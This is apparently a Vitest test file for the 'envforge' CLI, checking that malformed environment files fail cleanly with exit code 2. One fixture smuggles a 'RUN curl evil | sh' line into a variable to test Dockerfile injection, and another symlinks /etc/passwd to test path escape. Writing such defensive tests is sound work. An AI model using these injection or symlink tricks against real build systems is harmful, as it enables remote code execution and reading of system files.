import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cli } from "../support/run-cli.js";

/**
 * Every kind of bad input a user can hand the offline commands: each must end with exit code 2
 * and a message naming the file and what is wrong, never a stack trace.
 */
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "envforge-bad-"));
  const files: Record<string, string> = {
    "syntax.yml": "channels: [defaults\ndependencies: [python]\n",
    "unknown-key.yml": "channels: [defaults]\ndependencies: [python]\nchanels: [x]\n",
    "match-spec.yml": "dependencies: [numpy>>1.2]\n",
    "editable.txt": "-e ./mypkg\n",
    "local-path.txt": "./wheels/thing-1.0-py3-none-any.whl\n",
    "bad-image.yaml": "name: x\nimage: Not A Valid/Image:tag\n",
    "both.yaml": "name: x\nimage: debian:bookworm\nbuild: {path: ctx}\n",
    "conda-with-build.yaml": "name: x\nbuild: {path: ctx}\nconda_file: env.yml\n",
    "injection.yaml":
      'name: x\nimage: debian:bookworm\nvariables: {GOOD: "a\\nRUN curl evil | sh"}\n',
    "windows.yaml": "name: x\nimage: debian:bookworm\nos_type: windows\n",
  };
  for (const [name, text] of Object.entries(files)) await writeFile(join(dir, name), text);
  await mkdir(join(dir, "escape"));
  await writeFile(join(dir, "escape/Dockerfile"), "FROM debian:bookworm\n");
  await symlink("/etc/passwd", join(dir, "escape/passwd"));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("bad input through the CLI", () => {
  it.each([
    ["syntax.yml", /syntax\.yml:2:\d+: .*/],
    ["unknown-key.yml", /unknown-key\.yml:3:1: chanels: unknown key "chanels"/],
    ["match-spec.yml", /match-spec\.yml:1:\d+: dependencies\[0\]: not a valid match spec/],
    ["editable.txt", /editable\.txt:1: .*editable installs are not reproducible/],
    ["local-path.txt", /local-path\.txt:1: .*local paths cannot be used/],
    ["bad-image.yaml", /bad-image\.yaml:2:\d+: image: not a valid image reference/],
    ["both.yaml", /both\.yaml:\d+:\d+: .*exactly one of "image" and "build"/],
    ["conda-with-build.yaml", /conda-with-build\.yaml:\d+:\d+: conda_file: /],
    ["injection.yaml", /injection\.yaml:3:\d+: variables\.GOOD: /],
    ["windows.yaml", /windows\.yaml:3:\d+: os_type: /],
    ["escape", /escape.*passwd.*outside/],
  ])("%s: exit 2 with the file and the reason", async (name, message) => {
    const result = await cli(["dockerfile", join(dir, name)]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe("");
    expect(result.stderr).toMatch(/^envforge: /);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(/^\s+at /m);
  });
});
